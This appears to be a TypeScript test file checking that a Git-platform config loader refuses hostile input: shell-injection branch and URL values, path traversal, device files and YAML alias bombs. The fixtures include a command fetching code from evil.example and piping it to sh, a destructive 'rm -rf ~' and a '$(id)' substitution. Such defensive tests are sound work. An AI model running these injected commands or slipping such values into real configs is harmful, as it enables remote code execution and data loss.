/** Hostile corpus, config: bounded input, shell-safe values, confined paths; one error, nothing written. */
import { execFileSync } from 'child_process';
import * as fs from 'fs';
import * as path from 'path';
import { ConfigError, loadConfig } from '../../lib/config/load';
import { editConfig, expectRefused, project, Project, tmpDir } from './harness';

let p: Project;
beforeEach(() => {
  p = project();
});

describe('fails on values that would become shell commands', () => {
  test.each([
    ["'main;curl$IFS$9evil.example|sh'", 'contains ";", which a Git branch name here may not'],
    ['../../x', 'contains "..", which Git refuses in ref names'],
    ['-delete', 'starts with "-", which Git refuses for a branch'],
    ['feature/.hidden', 'has a component starting with "."'],
    ['main.lock', 'has a component ending in ".lock"'],
    ["\"main'\"", `contains "'", which a Git branch name here may not`],
    ['"$(id)"', 'contains "$", which a Git branch name here may not'],
  ])('fails on git.branch: %s', (value, why) => {
    editConfig(p, (t) => t.replace('  branch: main', `  branch: ${value}`));
    expectRefused(p, ['git.branch: ', why, 'use letters, digits and . _ - / +']);
  });

  test.each([
    ['"https://git.example.com/a\'b"', `contains "'"`],
    ['https://git.example.com/$(id)', 'contains "$"'],
    ['https://git.example.com/a;b', 'contains ";"'],
  ])('fails on git.url: %s', (value, why) => {
    editConfig(p, (t) => t.replace('  url: https://git.example.com/platform/management.git', `  url: ${value}`));
    expectRefused(p, ['git.url', why]);
  });

  test('fails on a token in git.url', () => {
    editConfig(p, (t) => t.replace('https://git.example.com', 'https://ghp_token123@git.example.com'));
    expectRefused(p, ['git.url: ', 'contains credentials (user or token before "@"); put them in the Git credentials Secret']);
  });

  test('fails on git.branch with a space (the schema pattern)', () => {
    editConfig(p, (t) => t.replace('  branch: main', '  branch: "main branch"'));
    expectRefused(p, ['git.branch: "main branch" is not a valid Git ref name (no spaces or ~^:?*[\\, e.g. main)']);
  });

  test('fails on git.url with a space (the schema pattern)', () => {
    editConfig(p, (t) => t.replace('  url: https://git.example.com/platform/management.git', "  url: 'https://git.example.com/a;rm -rf ~'"));
    expectRefused(p, ['git.url: "https://git.example.com/a;rm -rf ~" is not a URL']);
  });

  test.each([['../..'], ['kommander/..'], ['a/b/c'], ['.hidden/repo']])('fails on gitea.repository: %s', (value) => {
    editConfig(p, (t) => `${t}\ngitea:\n  repository: ${value}\n`);
    expectRefused(p, ['gitea.repository: ']);
  });
});

describe('fails on applicationDefinitions outside the repository or on the output', () => {
  test('fails on a relative path that leaves the repository', () => {
    const outside = path.join(path.dirname(p.dir), `${path.basename(p.dir)}-apps`);
    fs.mkdirSync(outside, { recursive: true });
    editConfig(p, (t) => t.replace(/^applicationDefinitions: .*$/m, `applicationDefinitions: ../${path.basename(outside)}`));
    expectRefused(p, ['applicationDefinitions: ', 'leaves the repository', 'name a tree outside it explicitly with an absolute path']);
  });

  test('fails on a symlink inside the repository that points outside it', () => {
    fs.symlinkSync(tmpDir('ssh-'), path.join(p.dir, 'apps-link'));
    editConfig(p, (t) => t.replace(/^applicationDefinitions: .*$/m, 'applicationDefinitions: apps-link'));
    expectRefused(p, ['applicationDefinitions: "apps-link" leaves the repository']);
  });

  test('fails on the repository itself', () => {
    editConfig(p, (t) => t.replace(/^applicationDefinitions: .*$/m, 'applicationDefinitions: .'));
    expectRefused(p, ['applicationDefinitions: "." is the repository itself']);
  });

  test('fails on the output folder', () => {
    editConfig(p, (t) => t.replace(/^applicationDefinitions: .*$/m, 'applicationDefinitions: out'));
    expectRefused(p, ['applicationDefinitions: "out" is or overlaps the output folder', 'the tree would copy the last output into itself']);
  });

  test('fails on / (contains the repository)', () => {
    editConfig(p, (t) => t.replace(/^applicationDefinitions: .*$/m, 'applicationDefinitions: /'));
    expectRefused(p, ['applicationDefinitions: "/" contains the repository']);
  });
});

describe('fails on unbounded input before or while reading', () => {
  test('fails on /dev/zero as the config', () => {
    const r = expectRefused({ ...p, config: '/dev/zero' }, ['/dev/zero: the config file is a character device, not a regular file']);
    expect(r).toContain('nothing was written');
  });

  test('fails on a symbolic link to /dev/zero as the config', () => {
    const link = path.join(tmpDir(), 'platform.yaml');
    fs.symlinkSync('/dev/zero', link);
    expectRefused({ ...p, config: link }, [`${link}: the config file is a character device, not a regular file`]);
  });

  test('fails on a FIFO as the config without blocking', () => {
    const fifo = path.join(tmpDir(), 'platform.yaml');
    execFileSync('mkfifo', [fifo]);
    expectRefused({ ...p, config: fifo }, [`${fifo}: the config file is a FIFO (named pipe), not a regular file`]);
  });

  test('fails on a folder as the config', () => {
    expectRefused({ ...p, config: p.dir }, [`${p.dir}: the config file is a folder, not a regular file`]);
  });

  test('fails on a config larger than the limit, before reading it', () => {
    fs.truncateSync(p.config, 17 * 1024 * 1024);
    expectRefused(p, [`${p.config}: the config file is 17825792 bytes, more than the limit of 16777216 bytes`]);
  });

  test('fails on an alias bomb with file and line', () => {
    const bomb = ['a: &a ["x","x","x","x","x","x","x","x","x","x"]'];
    for (let i = 1; i < 9; i++) bomb.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(10).fill(`*${String.fromCharCode(96 + i)}`).join(',')}]`);
    fs.writeFileSync(p.config, bomb.join('\n') + '\n');
    expectRefused(p, [/platform\.yaml:\d+:\d+: (has more than 100 YAML aliases|alias \*\w expands beyond 2000000 YAML nodes)/]);
  });

  test('fails on an undefined alias with file and line (no ReferenceError)', () => {
    editConfig(p, (t) => t.replace('clusterName: management', 'clusterName: *nowhere'));
    const err = expectRefused(p, [`${p.config}:7:14: alias *nowhere refers to no anchor &nowhere completed before it`]);
    expect(err).not.toContain('ReferenceError');
  });

  test('fails on a 3,000-deep mapping with file and line', () => {
    fs.writeFileSync(p.config, Array.from({ length: 3000 }, (_, i) => `${' '.repeat(i)}k:`).join('\n') + ' 1\n');
    expectRefused(p, [/platform\.yaml:\d+:\d+: nested too deeply \(more than 64 levels; flatten it\)/]);
  });

  test('fails on a 100-deep flow sequence with file and line', () => {
    fs.writeFileSync(p.config, `x: ${'['.repeat(100)}${']'.repeat(100)}\n`);
    expectRefused(p, [`${p.config}:1:`, 'nested too deeply']);
  });

  test('fails on a mapping with more keys than the limit', () => {
    const keys = Array.from({ length: 100_001 }, (_, i) => `k${i}: 1`).join('\n');
    fs.writeFileSync(p.config, `${keys}\n`);
    expectRefused(p, [`${p.config}:1:1: a mapping has 100001 keys, more than the limit of 100000 (split it)`]);
  });

  test('fails on an alias bomb in a file of the release tree, with its file and line', () => {
    const bomb = ['a: &a ["x","x","x","x","x","x","x","x","x","x"]'];
    for (let i = 1; i < 9; i++) bomb.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(10).fill(`*${String.fromCharCode(96 + i)}`).join(',')}]`);
    fs.writeFileSync(path.join(p.dir, 'examples/kommander-applications/v2.8.3/services/reloader/metadata.yaml'), bomb.join('\n') + '\n');
    expectRefused(p, [/services\/reloader\/metadata\.yaml.*(alias|aliases)/]);
  });

  test('fails on a config that is not UTF-8', () => {
    fs.writeFileSync(p.config, Buffer.from([0x63, 0x3a, 0x20, 0xff, 0xfe, 0x0a]));
    expectRefused(p, [`${p.config}: the config file is not UTF-8 text (save it as UTF-8)`]);
  });

  test('fails on two YAML documents', () => {
    editConfig(p, (t) => `${t}---\nclusterName: other\n`);
    expectRefused(p, ['holds 2 YAML documents; the config is one document']);
  });

  test('fails on a duplicate key with both lines', () => {
    editConfig(p, (t) => t.replace('clusterName: management', 'clusterName: management\nclusterName: other'));
    expectRefused(p, [`${p.config}:8:1: Map keys must be unique: "clusterName" is also set at line 7`]);
  });
});

describe('validation is linear in the size of the config', () => {
  const time = (n: number) => {
    const dir = tmpDir();
    const file = path.join(dir, 'platform.yaml');
    fs.writeFileSync(file, `clusterHostname: a.example.com\n${Array.from({ length: n }, (_, i) => `unknown${i}: ${i}`).join('\n')}\n`);
    const t = process.hrtime.bigint();
    let problems = 0;
    try {
      loadConfig(file);
    } catch (e) {
      problems = (e as ConfigError).problems.length;
    }
    return { ms: Number(process.hrtime.bigint() - t) / 1e6, problems };
  };
  test('20,000 unknown keys: every one reported, in well under the 81 s it took', () => {
    time(2_000); // warm-up
    const small = time(2_000);
    const large = time(20_000);
    expect(large.problems).toBeGreaterThanOrEqual(20_000);
    // linear: 10x the keys must not take 100x the time (allow 30x for noise on a shared machine)
    expect(large.ms).toBeLessThan(Math.max(small.ms, 20) * 30);
    expect(large.ms).toBeLessThan(15_000);
  });
});
